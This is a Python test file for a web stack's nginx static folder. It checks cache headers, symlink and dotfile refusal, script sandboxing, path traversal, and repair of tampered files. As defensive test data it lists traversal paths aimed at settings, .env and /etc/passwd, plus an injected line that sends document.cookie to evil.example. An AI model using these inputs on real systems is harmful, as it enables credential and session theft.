"""The static folder, served by nginx from the bind mount: hashed files with an immutable cache
header and never from gunicorn, only the folder's own regular files (no symlink, no dotfile, no
half-published file, no escape from it), no document in it that can run script, and no file
changed there that outlives the next deploy or start."""

import re
import secrets

from tests.harness import wait_for
from tests.harness.http import policy


def test_hashed_css_comes_from_nginx_with_an_immutable_cache_header(stack):
    _, _, body = stack.nginx.request("/")
    css = re.search(r'href="(/static/[^"]+\.[0-9a-f]{12}\.css)"', body)
    assert css, "the home page links no hashed stylesheet"
    status, headers, text = stack.nginx.request(css.group(1))
    assert status == 200
    assert headers["Cache-Control"] == "public, max-age=31536000, immutable"
    assert headers["Content-Type"] == "text/css"
    assert text == (stack.dir / css.group(1).lstrip("/")).read_text()  # the bind-mounted file itself
    assert css.group(1) not in stack.logs(), "the stylesheet request reached gunicorn"


def test_the_static_folder_serves_only_its_own_files_and_no_document_can_run_script(stack):
    token = secrets.token_hex(8)
    outside = stack.dir / f"outside-{token}.txt"  # readable by nginx, but not in the static folder
    plain, link = stack.static / f"plain-{token}.txt", stack.static / f"link-{token}.txt"
    hidden = stack.static / f".secret-{token}.0123456789ab.txt"  # a dotfile shaped like a hashed name
    page = stack.static / f"page-{token}.html"
    try:
        for path in (outside, plain, hidden):
            path.write_text(token)
        page.write_text(f"<script>document.title = '{token}'</script>")
        link.symlink_to(outside)
        assert stack.nginx.request(f"/static/{plain.name}")[::2] == (200, token)  # the contrast
        # The symlink is refused (403, disable_symlinks); the dotfile rule wins over the hashed-name one.
        for path, expected in [(link, 403), (hidden, 404)]:
            status, _, body = stack.nginx.request(f"/static/{path.name}")
            assert (status, token in body) == (expected, False), path.name
        # An .html file someone put there is a sandboxed document that may run no script.
        status, headers, _ = stack.nginx.request(f"/static/{page.name}")
        assert status == 200
        directives = policy(headers)
        assert "sandbox" in directives and directives["default-src"] == ["'none'"], directives
        assert "script-src" not in directives, directives
    finally:
        for path in (outside, plain, link, hidden, page):
            path.unlink(missing_ok=True)


def test_path_traversal_out_of_static_serves_no_file(stack):
    secret_key = stack.env["SECRET_KEY"]  # what the stack's .env holds
    settings_source = 'env_bool("DEBUG"'
    # Both targets exist where an escape from nginx's `root` would land: the stack's copy of the repo.
    assert settings_source in (stack.dir / "app/settings.py").read_text()
    for path in (
        "/static/../app/settings.py",
        "/static/..%2fapp/settings.py",
        "/static/%2e%2e/app/settings.py",
        "/static/%2e%2e%2fapp%2fsettings.py",
        "/static/..%5capp%5csettings.py",
        "/static../app/settings.py",
        "/static//../app/settings.py",
        "/static/../.env",
        "/static/%2e%2e/%2eenv",
        "/static/../../../../etc/passwd",
    ):
        status, _, body = stack.nginx.request(path)
        assert status in (400, 403, 404), path
        assert settings_source not in body and secret_key not in body and "root:x:0:0" not in body, path


def test_dotfiles_are_never_served(stack):
    token = secrets.token_hex(8)
    hidden, visible = stack.static / ".hidden", stack.static / "visible.txt"
    # What the entrypoint's publish_static writes before renaming it into place: never served half-made.
    partial = stack.static / f".style.0123456789ab.css.{token[:12]}.tmp"
    try:
        for path in (hidden, visible, partial):
            path.write_text(token)
        # The contrast: the same content under an ordinary name is served.
        assert stack.nginx.request("/static/visible.txt")[::2] == (200, token)
        for path in [
            f"/static/{partial.name}",
            "/static/.hidden",
            "/static/%2ehidden",
            "/.env",
            "/.git/config",
        ]:
            status, _, body = stack.nginx.request(path)
            assert status in (403, 404), path
            assert token not in body, path
    finally:
        for path in (hidden, visible, partial):
            path.unlink(missing_ok=True)


def test_a_tampered_static_file_is_replaced_at_the_next_deploy_and_at_the_next_start(stack):
    """Script appended to a served admin file (nginx serves it `immutable` for a year) does not
    survive a deploy's prepare of the same build, nor a restart: the image's bytes come back, logged."""
    [theme] = stack.static.glob("admin/js/theme.*.js")
    name, clean = theme.relative_to(stack.static).as_posix(), theme.read_bytes()
    evil = b"\n;fetch('https://evil.example/?c=' + document.cookie);\n"
    replaced = f"static files: replaced {name}: it differed from this image's copy"
    for how in ("deploy", "start"):
        with theme.open("ab") as served:  # as whoever got to write the folder would
            served.write(evil)
        assert stack.nginx.request(f"/static/{name}")[2].endswith(evil.decode())  # the contrast
        if how == "deploy":  # what scripts/deploy.sh runs first, from the image it deploys
            log = stack.compose("run", "--rm", "app", "prepare").stderr
        else:
            stack.compose("restart", "app")
            wait_for(lambda: stack.state()["Health"]["Status"] == "healthy", what="healthy after restart")
            log = stack.logs()
        assert replaced in log, (how, log)
        assert theme.read_bytes() == clean, how
        status, _, body = stack.nginx.request(f"/static/{name}")
        assert (status, body.encode()) == (200, clean), how
